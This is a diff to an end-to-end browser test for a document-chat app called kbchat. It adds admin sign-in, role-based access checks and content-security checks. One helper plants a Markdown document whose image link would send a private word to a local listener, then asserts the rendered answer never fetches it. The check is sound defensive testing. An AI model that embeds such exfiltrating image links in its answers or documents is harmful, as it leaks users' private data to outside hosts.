@@ -142,7 +142,7 @@ def app(tmp_path_factory) -> Iterator[App]:
                 pytest.fail(f"kbchat run did not get ready:\n{started.output()}\n{started.logs()}")
         processes = _started_by(started)
         names = " ".join(" ".join(p.cmdline()) for p in processes)
-        assert "streamlit" in names and "redis-server" in names and "postgres" in names, names
+        assert "uvicorn" in names and "redis-server" in names and "postgres" in names, names
         yield started
     finally:
         processes = processes or _started_by(started)
@@ -171,8 +171,22 @@ def test_upload_a_report_and_ask_about_it_in_the_browser(chromium, app, tmp_path
         # Playwright's driver and Chromium's processes: they must be gone once the browser is closed.
         driver_and_browser = [p for p in psutil.Process().children(recursive=True) if p.pid not in ours]
         page = browser.new_page(viewport={"width": 1400, "height": 1000})
+        blocked: list[str] = []  # what the Content-Security-Policy refused: kbchat's own page must need nothing
+        page.on("console", lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None)
+        outside: list[str] = []  # requests to any other origin (a document's remote image would be one)
+        page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(app.url) else None)
         try:
+            # First start made `admin` with a random password, printed once and kept in the data dir.
+            password = (app.data_dir / "initial-admin-password").read_text().strip()
+            assert password in app.output()
             page.goto(f"{app.url}/upload")
+            expect(page.get_by_role("button", name="Sign in")).to_be_visible(timeout=60_000)
+            page.get_by_label("Username").fill("admin")
+            page.get_by_label("Password").fill("not the password")
+            page.get_by_role("button", name="Sign in").click()
+            expect(page.get_by_text("Wrong username or password.")).to_be_visible(timeout=30_000)
+            page.get_by_label("Password").fill(password)
+            page.get_by_role("button", name="Sign in").click()
             expect(page.get_by_role("heading", name="Upload documents")).to_be_visible(timeout=60_000)
 
             # A fresh install has no knowledge base: the picker offers to create one, in place.
@@ -209,6 +223,10 @@ def test_upload_a_report_and_ask_about_it_in_the_browser(chromium, app, tmp_path
             expect(citation.first).to_be_visible(timeout=ANSWER_TIMEOUT * 1000)
             expect(page.get_by_test_id("stChatMessage").last).to_contain_text("utility wires")
             page.screenshot(path=str(tmp_path / "answer.png"), full_page=True)
+            _exfiltration_document_stays_inert(page, app, kb_name, tmp_path)
+            _analyst_sees_only_what_is_shared(browser, app, kb_name, tmp_path)
+            assert not blocked, f"the page needed something its own policy forbids: {blocked[:5]}"
+            assert not outside, f"the page called another origin: {outside[:5]}"
         except BaseException:
             page.screenshot(path=str(tmp_path / "failure.png"), full_page=True)
             print(f"screenshot: {tmp_path / 'failure.png'}\n{app.output()}\n{app.logs()}")
@@ -219,3 +237,93 @@ def test_upload_a_report_and_ask_about_it_in_the_browser(chromium, app, tmp_path
     while (left := _left_over(driver_and_browser)) and time.monotonic() < deadline:
         time.sleep(0.2)
     assert not left, "left running after the browser closed:\n" + "\n".join(left)
+
+
+LEAK = "![chart\\]x](http://127.0.0.1:{port}/leak.png?q=BLUEHERON)"
+
+
+def _exfiltration_document_stays_inert(page, app: App, kb_name: str, tmp_path: Path) -> None:
+    """A Markdown document whose image would carry a private word to another host, cited in an answer: the
+    browser asks nothing of that host (the listener hears nothing; the test's request log above sees nothing)."""
+    from http.server import BaseHTTPRequestHandler, HTTPServer
+
+    from playwright.sync_api import expect
+
+    heard: list[str] = []
+
+    class Listener(BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802
+            heard.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = HTTPServer(("127.0.0.1", 0), Listener)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        note = tmp_path / "blueheron-note.md"
+        note.write_text("# Blue heron survey\n\nThe blue heron colony nests by the weir. "
+                        + LEAK.format(port=server.server_port) + "\n\nIt counted forty nests.\n")
+        page.get_by_test_id("stSidebarNav").get_by_text("Upload", exact=True).click()
+        page.locator("input[type=file]").set_input_files(str(note))
+        page.get_by_role("button", name="Add to knowledge base").click()
+        row = page.get_by_test_id("stHorizontalBlock").filter(has_text=note.name)
+        expect(row).to_contain_text("ready", timeout=READY_TIMEOUT * 1000)
+        page.get_by_test_id("stSidebarNav").get_by_text("Ask", exact=True).click()
+        box = page.get_by_test_id("stChatInputTextArea")
+        box.fill("Where does the blue heron colony nest?")
+        box.press("Enter")
+        cited = page.get_by_test_id("stExpander").filter(has_text=note.name)
+        expect(cited.first).to_be_visible(timeout=ANSWER_TIMEOUT * 1000)
+        cited.first.click()
+        expect(cited.first).to_contain_text("weir")
+        expect(cited.first).to_contain_text("127.0.0.1")  # the link is shown as text
+        assert page.locator("img[src*='leak.png']").count() == 0
+        page.wait_for_timeout(1500)
+        page.screenshot(path=str(tmp_path / "exfiltration.png"), full_page=True)
+        assert not heard, f"the browser called the document's host: {heard}"
+    finally:
+        server.shutdown()
+
+
+def _analyst_sees_only_what_is_shared(browser, app: App, kb_name: str, tmp_path: Path) -> None:
+    from playwright.sync_api import expect
+
+    env = {**os.environ, "KBCHAT_DATA_DIR": str(app.data_dir)}
+    for key in ("KBCHAT_DATABASE_URL", "KBCHAT_REDIS_URL"):
+        env.pop(key, None)
+    password = f"Analyst-{uuid.uuid4().hex}"
+    subprocess.run([sys.executable, "-m", "kbchat.cli", "users", "add", "rita", "--role", "analyst",
+                    "--password-stdin"], input=password + "\n", text=True, env=env, cwd=ROOT, check=True,
+                   capture_output=True, timeout=120)
+    context = browser.new_context(viewport={"width": 1400, "height": 1000})
+    page = context.new_page()
+    try:
+        page.goto(f"{app.url}/login")
+        page.get_by_label("Username").fill("rita")
+        page.get_by_label("Password").fill(password)
+        page.get_by_role("button", name="Sign in").click()
+        expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(timeout=60_000)
+        expect(page.get_by_text("No knowledge base is shared with you yet")).to_be_visible(timeout=30_000)
+        nav = page.get_by_test_id("stSidebarNav")
+        expect(nav.get_by_text("Upload", exact=True)).to_be_visible()
+        expect(nav.get_by_text("Monitoring", exact=True)).to_have_count(0)
+        expect(nav.get_by_text("Audit log", exact=True)).to_have_count(0)
+        page.goto(f"{app.url}/monitoring")  # by URL: not a page for an analyst
+        page.wait_for_timeout(3000)
+        expect(page.get_by_role("heading", name="Monitoring")).to_have_count(0)
+        subprocess.run([sys.executable, "-m", "kbchat.cli", "grant", kb_name, "rita", "--level", "viewer"], env=env,
+                       cwd=ROOT, check=True, capture_output=True, timeout=120)
+        page.goto(f"{app.url}/chat")
+        expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible(timeout=60_000)
+        expect(page.get_by_test_id("stChatInputTextArea")).to_have_attribute("placeholder", f"Ask about “{kb_name}”",
+                                                                             timeout=30_000)
+        page.screenshot(path=str(tmp_path / "analyst.png"), full_page=True)
+    except BaseException:
+        page.screenshot(path=str(tmp_path / "analyst-failure.png"), full_page=True)
+        raise
+    finally:
+        context.close()
